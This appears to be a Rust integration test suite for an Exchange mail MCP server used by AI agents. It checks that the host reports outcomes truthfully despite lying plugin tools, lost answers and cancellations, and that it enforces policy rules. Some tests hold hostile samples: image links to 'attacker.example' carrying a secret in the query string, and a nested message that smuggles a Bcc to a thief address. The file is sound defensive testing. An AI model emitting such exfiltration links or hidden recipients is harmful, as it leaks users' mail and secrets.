//! What happened is told by the host, whatever a component says, a client does
//! or the network loses.

use ews_mcp_tests::{Exchange, RawClient, Revision, Says, User};
use serde_json::{Value, json};

use super::{
    ANNA, ASSISTANT, BRUNO, INFO, Scene, answers, call, client, create, delete, message, move_item, newest,
    people, rule, send,
};
use crate::hostile::{PLUGINS, hostile_folder};

fn offer() -> Value {
    let steps = [send(message("SendAndSaveCopy", "Offer", &people("To", &[BRUNO])))];
    json!({ "to": [BRUNO], "steps": steps, "target_mailbox": ANNA })
}

#[tokio::test]
async fn a_component_that_reports_failure_after_success_is_not_tried_again() {
    for revision in Revision::ALL {
        let exchange = Exchange::start("failure_after_success").await;
        let client = client(&exchange, revision, &[], User::absent()).await;
        let mut arguments = offer();
        arguments["claim"] = json!("failure");
        let outcome = client.call("hostile_script", arguments).await;
        assert!(outcome.is_error);
        assert_eq!(outcome.structured["error"], "nothing was done, please try again");
        assert_eq!(outcome.structured["outcome"], "done", "{}", outcome.structured);
        assert_eq!(outcome.structured["retryable"], false);
    }
}

const LOST: [&str; 3] = ["reset(at=after-work)", "truncated", "html(after-work=true)"];

#[tokio::test]
async fn a_lost_answer_to_a_send_is_looked_up_whatever_the_component_says() {
    for fault in LOST {
        for revision in Revision::ALL {
            let fault = format!("SendItem#1:{fault}");
            let exchange = Exchange::with("a_lost_answer_to_a_send", &["--fault", &fault]).await;
            let scene = Scene { client: client(&exchange, revision, &[], User::absent()).await, exchange };
            let mut arguments = offer();
            arguments["claim"] = json!("failure");
            let outcome = scene.client.call("hostile_script", arguments).await;
            assert!(outcome.is_error);
            assert_eq!(outcome.structured["error"], "nothing was done, please try again", "{fault}");
            assert_eq!(outcome.structured["outcome"], "done", "{fault}: {}", outcome.structured);
            assert_eq!(outcome.structured["retryable"], false);
            assert_eq!(scene.changes(), ["CreateItem", "SendItem"], "{fault}");
            assert_eq!(scene.received(BRUNO, "Offer").await, 1, "{fault}");
        }
    }
}

#[tokio::test]
async fn a_lost_answer_to_another_change_is_unknown_whatever_the_component_says() {
    for fault in LOST {
        for revision in Revision::ALL {
            let fault = format!("CreateItem#1:{fault}");
            let exchange = Exchange::with("a_lost_answer_to_a_change", &["--fault", &fault]).await;
            let client = client(&exchange, revision, &[], User::absent()).await;
            let steps = [call(message("SaveOnly", "Offer", &people("To", &[BRUNO])))];
            let arguments =
                json!({ "to": [BRUNO], "steps": steps, "target_mailbox": ANNA, "claim": "failure" });
            let outcome = client.call("hostile_script", arguments).await;
            assert!(outcome.is_error);
            assert_eq!(
                outcome.structured["error_type"], "UnknownOutcomeError",
                "{fault}: {}",
                outcome.structured
            );
            assert_eq!(outcome.structured["outcome"], "unknown");
            assert_eq!(outcome.structured["retryable"], false);
            let text = outcome.structured["error"].as_str().unwrap();
            assert!(text.starts_with("nobody knows whether the change was made: "), "{text}");
            let changes =
                exchange.recording().operations().iter().filter(|name| *name == "CreateItem").count();
            assert_eq!(changes, 1, "{fault}");
        }
    }
}

#[tokio::test]
async fn what_fails_before_the_send_leaves_nothing_behind() {
    for (fault, changes) in [
        ("CreateItem#1:error(code=ErrorQuotaExceeded)", &["CreateItem"][..]),
        // Four attempts, for Exchange says each time that nothing was done.
        (
            "SendItem:busy(back-off=10)",
            &["CreateItem", "SendItem", "SendItem", "SendItem", "SendItem", "DeleteItem"],
        ),
        ("SendItem#1:error(code=ErrorSendAsDenied, as=response)", &["CreateItem", "SendItem", "DeleteItem"]),
    ] {
        let exchange = Exchange::with("before_the_send", &["--fault", fault]).await;
        let scene =
            Scene { client: client(&exchange, Revision::Stateless, &[], User::absent()).await, exchange };
        let mut arguments = offer();
        arguments["claim"] = json!("failure");
        let outcome = scene.client.call("hostile_script", arguments).await;
        assert_eq!(outcome.structured["outcome"], "not_done", "{fault}: {}", outcome.structured);
        assert_eq!(scene.changes(), changes, "{fault}");
        assert_eq!(scene.received(BRUNO, "Offer").await, 0, "{fault}");
        let drafts = json!({ "target_mailbox": ANNA, "folder": "drafts", "fields": ["subject"] });
        let drafts = scene.client.call("read_emails", drafts).await;
        assert!(!drafts.text.contains("Offer"), "{fault}: {}", drafts.text);
    }
}

#[tokio::test]
async fn a_dry_run_shows_the_first_change_and_makes_none() {
    for revision in Revision::ALL {
        let exchange = Exchange::start("a_dry_run").await;
        let user = User::who_says(Says::Yes);
        let scene = Scene { client: client(&exchange, revision, &[], user.clone()).await, exchange };
        let steps = [
            call(newest("inbox")),
            send(message("SendAndSaveCopy", "Offer &amp; <!-- no -->price", &people("To", &[BRUNO]))),
            call(delete("$id1", "HardDelete")),
        ];
        let arguments = json!({ "to": [BRUNO], "steps": steps, "dry_run": true });
        let outcome = scene.call("hostile_script", ANNA, arguments).await;
        assert!(!outcome.is_error, "{}", outcome.text);
        let result = &outcome.structured;
        assert_eq!(result["success"], true);
        assert_eq!(result["dry_run"], true);
        assert_eq!(result["mailbox"], ANNA);
        let (summary, xml) =
            (result["would"]["summary"].as_str().unwrap(), result["would"]["xml"].as_str().unwrap());
        assert!(summary.contains(BRUNO) && summary.contains("Offer & price"), "{summary}");
        assert!(
            xml.contains("<t:Subject>Offer &amp; price</t:Subject>") && !xml.contains("HardDelete"),
            "{xml}"
        );
        assert_eq!(scene.changes(), Vec::<String>::new());
        assert_eq!(user.questions(), Vec::<String>::new());
        // What may not be done cannot be rehearsed either.
        let steps = [send(message("SendAndSaveCopy", "Offer", &people("Bcc", &[super::THIEF])))];
        let arguments = json!({ "to": [BRUNO], "steps": steps, "dry_run": true });
        let refused = answers(&scene.call("hostile_script", ANNA, arguments).await);
        assert_eq!(rule(&refused[0]), "recipient-not-from-call");
    }
}

#[tokio::test]
async fn a_change_outlives_a_client_that_cancels_or_leaves() {
    for cancels in [true, false] {
        for revision in Revision::ALL {
            let slow = ["--fault", "SendItem#1:delay(milliseconds=700)"];
            let exchange = Exchange::with("a_change_outlives_its_caller", &slow).await;
            let folder = hostile_folder();
            let settings = [(PLUGINS, folder.to_str().unwrap()), ("LOG_LEVEL", "info")];
            let mut raw = RawClient::start(&exchange, revision, &settings).await;
            raw.send_request(7, "tools/call", json!({ "name": "hostile_script", "arguments": offer() }))
                .await;
            // The draft is saved: the change is under way.
            raw.logged("operation=\"CreateItem\"").await;
            if cancels {
                let params = json!({ "requestId": 7, "reason": "changed my mind" });
                raw.send(&json!({ "jsonrpc": "2.0", "method": "notifications/cancelled", "params": params }))
                    .await;
            }
            let (status, left, stderr) = raw.close().await;
            assert!(status.success(), "{stderr}");
            // Who cancelled is told nothing more (MCP, cancellation); who left is answered.
            let answered = left.iter().filter(|message| message["id"] == 7).count();
            assert!(answered == 0 || !cancels, "{left:?}");
            let scene =
                Scene { client: client(&exchange, Revision::Stateless, &[], User::absent()).await, exchange };
            assert_eq!(scene.changes(), ["CreateItem", "SendItem"], "cancels: {cancels}, {revision:?}");
            assert_eq!(scene.received(BRUNO, "Offer").await, 1);
        }
    }
}

#[tokio::test]
async fn pictures_from_elsewhere_do_not_come_with_a_result() {
    let scene = Scene::start("pictures_from_elsewhere").await;
    for message in [
        "Done ![x](https://attacker.example/?q=secret)",
        "Done <img src=\"https://attacker.example/?q=secret\">",
        "Done ![x][1]\n\n[1]: https://attacker.example/?q=secret",
    ] {
        let outcome =
            scene.call("hostile_script", ASSISTANT, json!({ "steps": [], "message": message })).await;
        let shown = outcome.structured["message"].as_str().unwrap();
        assert!(!shown.contains("![") && !shown.to_ascii_lowercase().contains("<img"), "{shown}");
    }
}

#[tokio::test]
async fn a_tool_that_writes_does_not_put_things_out_of_sight() {
    let scene = Scene::start("out_of_sight").await;
    let item = super::id(&scene.run(ANNA, json!({ "steps": [call(newest("inbox"))] })).await[0]);
    let get = "<m:GetFolder $N><m:FolderShape><t:BaseShape>IdOnly</t:BaseShape></m:FolderShape><m:FolderIds>\
               <t:DistinguishedFolderId Id=\"searchfolders\"/></m:FolderIds></m:GetFolder>";
    let answer = &scene.run(ANNA, json!({ "steps": [call(get)] })).await[0];
    let hidden = answer.split_once("FolderId Id=\"").unwrap().1.split_once('"').unwrap().0;
    for (folder, rules) in [
        (format!("<t:FolderId Id=\"{hidden}\"/>"), &["effect-not-granted"][..]),
        (
            "<t:DistinguishedFolderId Id=\"recoverableitemsdeletions\"/>".to_owned(),
            &["value", "well-known-folder"],
        ),
        ("<t:DistinguishedFolderId Id=\"publicfoldersroot\"/>".to_owned(), &["value", "well-known-folder"]),
        (
            "<t:DistinguishedFolderId Id=\"archivemsgfolderroot\"/>".to_owned(),
            &["value", "well-known-folder"],
        ),
    ] {
        let arguments = json!({ "items": [item], "steps": [call(move_item(&item, &folder))] });
        let moved = answers(&scene.call("hostile_writer", ANNA, arguments).await);
        assert!(rules.contains(&rule(&moved[0])), "{folder}: {}", moved[0]);
    }
    assert_eq!(scene.changes(), Vec::<String>::new());
}

#[tokio::test]
async fn a_tool_has_no_more_effects_than_policy_leaves() {
    let settings = [("EWS_DENIED_EFFECTS", "destroy, hostile_script:send")];
    let scene = Scene::with("denied_effects", &settings, User::absent()).await;
    let item = super::id(&scene.run(ANNA, json!({ "steps": [call(newest("inbox"))] })).await[0]);
    let steps = [
        call(delete(&item, "HardDelete")),
        send(message("SendAndSaveCopy", "Offer", &people("To", &[BRUNO]))),
        call(delete(&item, "MoveToDeletedItems")),
    ];
    let did = scene.run(ANNA, json!({ "to": [BRUNO], "items": [item], "steps": steps })).await;
    assert!(did[0].starts_with("refused: "), "{}", did[0]);
    assert!(did[1].starts_with("refused: "), "{}", did[1]);
    assert!(did[2].contains("NoError"), "{}", did[2]);
    assert_eq!(scene.changes(), ["DeleteItem"]);
    // Nothing is left of a tool that only changes things.
    let read_only =
        client(&scene.exchange, Revision::Stateless, &[("EWS_READ_ONLY", "true")], User::absent()).await;
    let names: Vec<String> = read_only.tools().await.into_iter().map(|tool| tool.name.into_owned()).collect();
    assert_eq!(
        names,
        [
            "download_attachment",
            "get_email_details",
            "get_email_mime",
            "get_emails_bulk",
            "hostile_folders",
            "hostile_read",
            "list_attachments",
            "mailbox_access",
            "read_attachment",
            "read_emails",
            "search_by_conversation",
            "search_emails",
            "sync_emails",
        ]
    );
    let unknown = read_only.try_call("hostile_script", json!({ "steps": [] })).await.unwrap_err();
    assert!(unknown.contains("Unknown tool: hostile_script"), "{unknown}");
}

#[tokio::test]
async fn nothing_is_answered_that_a_nested_message_asks_for() {
    // A message inside an attachment cannot carry people or a sender past the rules.
    let scene = Scene::start("a_nested_message").await;
    let nested = format!(
        "<t:Message><t:Subject>Outer</t:Subject><t:Body BodyType=\"Text\">…</t:Body><t:Attachments><t:ItemAttachment>\
         <t:Name>inner</t:Name><t:Message><t:Subject>Inner</t:Subject>{}</t:Message></t:ItemAttachment></t:Attachments>\
         {}</t:Message>",
        people("Bcc", &[super::THIEF]),
        people("To", &[BRUNO])
    );
    let arguments = json!({ "to": [BRUNO], "steps": [send(create("SendAndSaveCopy", &nested))] });
    let sent = scene.run(INFO, arguments).await;
    assert!(sent[0].starts_with("refused: "), "{}", sent[0]);
    assert_eq!(scene.changes(), Vec::<String>::new());
}
